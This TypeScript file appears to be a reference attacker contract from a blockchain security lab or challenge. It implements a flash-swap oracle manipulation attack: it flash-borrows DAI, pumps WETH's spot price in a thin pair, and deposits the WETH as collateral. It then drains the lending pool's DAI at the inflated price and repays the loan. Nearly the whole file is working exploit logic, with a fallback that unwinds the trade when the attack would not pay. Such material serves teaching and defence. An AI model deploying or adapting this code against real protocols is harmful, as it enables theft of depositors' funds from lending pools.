// file: Attacker.ts
// The reference attacker: one transaction, funded by a flash swap. Read it; do not edit.
// 1. borrow DAI from a deep pair (a flash swap: `swap` with data calls `uniswapV2Call` back);
// 2. dump it into the thin pair the oracle reads: WETH comes out and its spot price jumps;
// 3. deposit that WETH in the lending pool and borrow as much DAI as the pool now allows;
// 4. repay the flash swap with its 0.3% fee and keep the rest.
// If the pool's price did not move enough to pay, it sells the WETH back instead and repays
// from its own pocket: the attack then costs it the swap fees.
import { Contract, StorageValue, Token, emit, msg, require } from 'chainlab';

type Reserves = { reserve0: bigint; reserve1: bigint; blockTimestampLast: number };
type Pair = {
	token0(): string;
	getReserves(): Reserves;
	swap(amount0Out: bigint, amount1Out: bigint, to: string, data: string): void;
};
type Pool = {
	deposit(amount: bigint): void;
	borrow(amount: bigint): void;
	availableToBorrow(user: string): bigint;
	price(): bigint;
};

const UNIT = 10n ** 18n;

export default class Attacker extends Contract {
	flashPair = new StorageValue<string>('flashPair', '');
	targetPair = new StorageValue<string>('targetPair', '');
	pool = new StorageValue<string>('pool', '');
	weth = new StorageValue<string>('weth', '');
	dai = new StorageValue<string>('dai', '');
	owner = new StorageValue<string>('owner', '');

	constructor(flashPair: string, targetPair: string, pool: string, weth: string, dai: string) {
		super();
		this.flashPair.set(flashPair);
		this.targetPair.set(targetPair);
		this.pool.set(pool);
		this.weth.set(weth);
		this.dai.set(dai);
		this.owner.set(msg.sender);
	}

	/** Flash-borrow `amount` DAI from the deep pair; the rest happens in uniswapV2Call. */
	attack(amount: bigint) {
		require(msg.sender === this.owner.get(), 'Attacker: only the owner');
		const pair = Contract.at<Pair>(this.flashPair.get());
		const daiIs0 = pair.token0() === this.dai.get();
		pair.swap(daiIs0 ? amount : 0n, daiIs0 ? 0n : amount, this.address, 'flash');
	}

	uniswapV2Call(sender: string, amount0Out: bigint, amount1Out: bigint, data: string) {
		require(msg.sender === this.flashPair.get() &&
			sender === this.address, 'Attacker: not my flash swap');
		require(data === 'flash', 'Attacker: unknown data');
		const weth = Token.at(this.weth.get());
		const dai = Token.at(this.dai.get());
		const borrowed = amount0Out + amount1Out;
		const owed = (borrowed * 1000n) / 997n + 1n; // the K check with the 0.3% fee on the way back

		// 2. dump the DAI into the thin pair: its spot price of WETH jumps
		const bought = this.swapAll(this.dai.get(), borrowed);
		const pool = Contract.at<Pool>(this.pool.get());
		const priceUsed = pool.price();
		emit('Manipulated', { spot: this.spot(), poolPrice: priceUsed, wethBought: bought });

		// 3. the WETH as collateral, at the pool's price: does the loan cover the flash swap?
		weth.approve(this.pool.get(), bought);
		const poolCash = dai.balanceOf(this.pool.get());
		const wouldBorrow = percentOf(bought, priceUsed);
		const have = dai.balanceOf(this.address);
		if (have + (wouldBorrow < poolCash ? wouldBorrow : poolCash) >= owed) {
			pool.deposit(bought);
			const limit = pool.availableToBorrow(this.address);
			const amount = limit < poolCash ? limit : poolCash;
			pool.borrow(amount);
			emit('Borrowed', { amount, collateral: bought });
		} else {
			// not worth it: sell the WETH back and eat the fees
			this.swapAll(this.weth.get(), bought);
			emit('Unwound', { wethSold: bought });
		}

		// 4. repay the flash swap
		require(dai.balanceOf(this.address) >= owed, 'Attacker: cannot repay the flash swap');
		dai.transfer(this.flashPair.get(), owed);
	}

	/** Swap `amountIn` of `tokenIn` into the thin pair (v2-periphery getAmountOut); returns what came out. */
	private swapAll(tokenIn: string, amountIn: bigint): bigint {
		const pair = Contract.at<Pair>(this.targetPair.get());
		const r = pair.getReserves();
		const inIs0 = pair.token0() === tokenIn;
		const reserveIn = inIs0 ? r.reserve0 : r.reserve1;
		const reserveOut = inIs0 ? r.reserve1 : r.reserve0;
		const amountInWithFee = amountIn * 997n;
		const out = (amountInWithFee * reserveOut) / (reserveIn * 1000n + amountInWithFee);
		Token.at(tokenIn).transfer(this.targetPair.get(), amountIn);
		pair.swap(inIs0 ? 0n : out, inIs0 ? out : 0n, this.address, '');
		return out;
	}

	/** The thin pair's spot price: DAI per WETH (18 decimals each, so per whole WETH). */
	private spot(): bigint {
		const pair = Contract.at<Pair>(this.targetPair.get());
		const r = pair.getReserves();
		const wethIs0 = pair.token0() === this.weth.get();
		return wethIs0 ? (r.reserve1 * UNIT) / r.reserve0 : (r.reserve0 * UNIT) / r.reserve1;
	}
}

/** The pool's LTV (80.5%) of `amount` WETH at `price` DAI per WETH, rounded down. */
function percentOf(amount: bigint, price: bigint): bigint {
	return (((amount * price) / UNIT) * 8050n) / 10000n;
}
